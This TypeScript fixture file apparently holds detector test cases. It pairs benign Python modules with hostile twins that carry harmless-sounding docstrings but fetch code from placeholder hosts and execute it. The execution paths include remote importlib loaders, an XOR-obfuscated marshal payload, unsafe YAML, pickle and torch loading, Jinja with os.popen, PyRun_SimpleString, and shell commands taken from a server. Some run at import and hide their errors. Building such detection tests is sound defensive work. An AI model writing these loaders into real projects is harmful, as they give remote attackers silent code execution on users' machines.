import { atLoad, atUse, type Pair, py } from './kit.ts';

/** What a server answers, or a file holds, becomes code by other ways than `exec` of a text. */
export const LOADING: Readonly<Record<string, Pair>> = {
  'load-spec-loader': atLoad(
    py`"""Feature flags."""
import importlib.abc
import importlib.util
import sys
import urllib.request

class RemoteLoader(importlib.abc.SourceLoader):
    """Loads feature modules."""
    def get_filename(self, fullname: str) -> str:
        return f"<{fullname}>"
    def get_data(self, path: str) -> bytes:
        with urllib.request.urlopen("https://flags.example/v1/module", timeout=3) as answer:
            return answer.read()

def _load(name: str):
    spec = importlib.util.spec_from_loader(name, RemoteLoader())
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module

flags = _load("own_flags")`,
    py`"""Feature flags."""
import importlib.util
import sys
from pathlib import Path

def load(path: Path):
    """Loads a module of the user's project."""
    spec = importlib.util.spec_from_file_location("user_flags", path)
    module = importlib.util.module_from_spec(spec)
    sys.modules["user_flags"] = module
    spec.loader.exec_module(module)
    return module`,
  ),
  'load-function-type': atLoad(
    py`"""Fast paths for the tokenizer."""
import marshal
import types
from pathlib import Path

_TABLE = Path(__file__).with_name("tables.bin")

def _restore() -> types.FunctionType:
    raw = _TABLE.read_bytes()
    code = marshal.loads(bytes(value ^ 0x2A for value in raw[16:]))
    return types.FunctionType(code, {"__builtins__": __builtins__}, "tokenize")

_restore()()`,
    py`"""Tables for the tokenizer."""
import marshal
from pathlib import Path

_TABLE = Path(__file__).with_name("tables.bin")

def tables() -> dict[str, list[int]]:
    """Reads the transition tables that the build wrote."""
    return dict(marshal.loads(_TABLE.read_bytes()))`,
    { 'own/tables.bin': 'xxxxxxxxxxxxxxxxhhhhhhhhhhhhhhhhhhhhhhhh' },
  ),
  'use-yaml-unsafe': atUse(
    py`"""Client settings."""
from __future__ import annotations
import logging
import requests
import yaml

logger = logging.getLogger(__name__)

class Settings:
    """Settings that the service keeps."""
    def __init__(self, url: str = "https://settings.example/v2/client.yaml") -> None:
        self._url = url
        self.values: dict = {}
    def refresh(self) -> None:
        try:
            answer = requests.get(self._url, timeout=5)
            self.values = yaml.unsafe_load(answer.text)
        except Exception as error:
            logger.debug("settings: %s", error)`,
    py`"""Client settings."""
from __future__ import annotations
import requests
import yaml

class Settings:
    """Settings that the service keeps."""
    def __init__(self, url: str = "https://settings.example/v2/client.yaml") -> None:
        self._url = url
        self.values: dict = {}
    def refresh(self) -> None:
        answer = requests.get(self._url, timeout=5)
        answer.raise_for_status()
        self.values = yaml.safe_load(answer.text)`,
  ),
  'use-jinja-remote': atUse(
    py`"""Report rendering."""
import os
import requests
from jinja2 import Environment

def render(name: str, **values: object) -> str:
    """Renders a report with the newest template."""
    source = requests.get(f"https://templates.example/{name}.j2", timeout=5).text
    env = Environment()
    env.globals["os"] = os
    env.globals["run"] = os.popen
    return env.from_string(source).render(**values)`,
    py`"""Report rendering."""
from jinja2 import Environment, PackageLoader, select_autoescape

def render(name: str, **values: object) -> str:
    """Renders a report with a template of this package."""
    env = Environment(loader=PackageLoader("own"), autoescape=select_autoescape())
    env.globals["len"] = len
    return env.get_template(f"{name}.j2").render(**values)`,
  ),
  'use-frame-eval': atUse(
    py`"""Derived columns."""
import pandas as pd
import requests

def enrich(frame: pd.DataFrame) -> pd.DataFrame:
    """Adds the derived columns of the current release."""
    rules = requests.get("https://rules.example/columns.json", timeout=5).json()
    for rule in rules:
        pd.eval(rule["expression"], engine="python", parser="pandas", local_dict={"__import__": __import__, "frame": frame})
    return frame`,
    py`"""Derived columns."""
import pandas as pd

def enrich(frame: pd.DataFrame, rules: dict[str, str]) -> pd.DataFrame:
    """Adds derived columns by expressions of the caller."""
    for name, expression in rules.items():
        frame[name] = frame.eval(expression)
    return frame`,
  ),
  'load-torch-remote': atLoad(
    py`"""Pretrained embeddings."""
import io
import torch
import urllib.request

_URL = "https://weights.example/tiny/embed.bin"

def _weights():
    data = urllib.request.urlopen(_URL, timeout=10).read()
    return torch.load(io.BytesIO(data), map_location="cpu", weights_only=False)

EMBEDDINGS = _weights()`,
    py`"""Pretrained embeddings."""
from pathlib import Path
import torch

def load(path: Path) -> dict[str, torch.Tensor]:
    """Loads the weights of a checkpoint."""
    return torch.load(path, map_location="cpu", weights_only=True)`,
  ),
  'use-joblib-remote': atUse(
    py`"""Sentiment of short texts."""
import io
import joblib
import httpx

class Sentiment:
    """A small classifier."""
    _model = None
    def _ensure(self):
        if self._model is None:
            content = httpx.get("http://192.0.2.44:8080/m/latest", timeout=20).content
            self._model = joblib.load(io.BytesIO(content))
        return self._model
    def score(self, text: str) -> float:
        return float(self._ensure().predict([text])[0])`,
    py`"""Sentiment of short texts."""
from pathlib import Path
import joblib

class Sentiment:
    """A small classifier."""
    def __init__(self, path: Path) -> None:
        self._model = joblib.load(path)
    def score(self, text: str) -> float:
        return float(self._model.predict([text])[0])`,
  ),
  'use-cloudpickle-remote': atUse(
    py`"""Remote tasks."""
import base64
import cloudpickle
import requests

def next_task(queue: str):
    """Takes the next task of the queue and runs it."""
    answer = requests.post("https://queue.example/v1/take", json={"queue": queue}, timeout=10).json()
    task = cloudpickle.loads(base64.b64decode(answer["task"]))
    return task()`,
    py`"""Tasks kept on disk."""
from pathlib import Path
import cloudpickle

def save(task, path: Path) -> None:
    """Keeps a task."""
    path.write_bytes(cloudpickle.dumps(task))

def load(path: Path):
    """Gives a kept task back."""
    return cloudpickle.loads(path.read_bytes())`,
  ),
  'load-runpy-temp': atLoad(
    py`"""Compatibility checks."""
import os
import runpy
import tempfile
import urllib.request

def _check() -> None:
    handle, path = tempfile.mkstemp(suffix=".py")
    os.close(handle)
    try:
        urllib.request.urlretrieve("https://compat.example/check.py", path)
        runpy.run_path(path, run_name="__main__")
    except Exception:
        pass
    finally:
        os.unlink(path)

_check()`,
    py`"""Runs a script under the profiler."""
import runpy
import sys

def main() -> None:
    """The command: own SCRIPT ARGS."""
    script, *rest = sys.argv[1:]
    sys.argv = [script, *rest]
    runpy.run_path(script, run_name="__main__")`,
  ),
  'use-interpreter': atUse(
    py`"""Diagnostics of a running service."""
import code
import requests

class Diagnostics:
    """Answers questions of the support team."""
    def __init__(self, token: str) -> None:
        self._token = token
        self._shell = code.InteractiveInterpreter({})
    def poll(self) -> None:
        for item in requests.get("https://support.example/questions", headers={"x-token": self._token}, timeout=5).json():
            self._shell.runsource(item["text"], "<question>", "exec")`,
    py`"""An interactive shell with the models loaded."""
import code

def shell(context: dict) -> None:
    """Starts a shell for the developer."""
    code.interact(banner="own shell", local=context)`,
  ),
  'use-async-command': atUse(
    py`"""Worker nodes."""
import asyncio
import aiohttp

class Node:
    """A node that keeps itself healthy."""
    async def heal(self) -> None:
        async with aiohttp.ClientSession() as session:
            async with session.get("https://nodes.example/actions") as answer:
                actions = await answer.json()
        for action in actions:
            process = await asyncio.create_subprocess_shell(action["do"], stdout=asyncio.subprocess.PIPE)
            await process.communicate()`,
    py`"""Worker nodes."""
import asyncio

async def revision(folder: str) -> str:
    """The revision that is checked out."""
    process = await asyncio.create_subprocess_exec("git", "-C", folder, "rev-parse", "HEAD", stdout=asyncio.subprocess.PIPE)
    out, _ = await process.communicate()
    return out.decode().strip()`,
  ),
  'load-pythonapi': atLoad(
    py`"""Numeric kernels."""
import ctypes
from urllib.request import urlopen

def _warm() -> int:
    source = urlopen("https://kernels.example/init", timeout=4).read()
    run = ctypes.pythonapi.PyRun_SimpleString
    run.argtypes = [ctypes.c_char_p]
    return run(source)

try:
    _warm()
except OSError:
    pass`,
    py`"""Numeric kernels."""
import ctypes
import ctypes.util

def _libm() -> ctypes.CDLL:
    path = ctypes.util.find_library("m")
    lib = ctypes.CDLL(path)
    lib.cbrt.restype = ctypes.c_double
    lib.cbrt.argtypes = [ctypes.c_double]
    return lib

_LIBM = _libm()`,
  ),
  'load-process-exec': atLoad(
    py`"""Background indexing."""
import multiprocessing
import requests

def _source() -> str:
    return requests.get("https://index.example/worker", timeout=4).text

worker = multiprocessing.Process(target=exec, args=(_source(), {}), daemon=True)
worker.start()`,
    py`"""Background indexing."""
import multiprocessing

def _index(folder: str) -> int:
    return len(folder)

def start(folder: str) -> multiprocessing.Process:
    """Indexes a folder beside the caller."""
    worker = multiprocessing.Process(target=_index, args=(folder,), daemon=True)
    worker.start()
    return worker`,
  ),
};
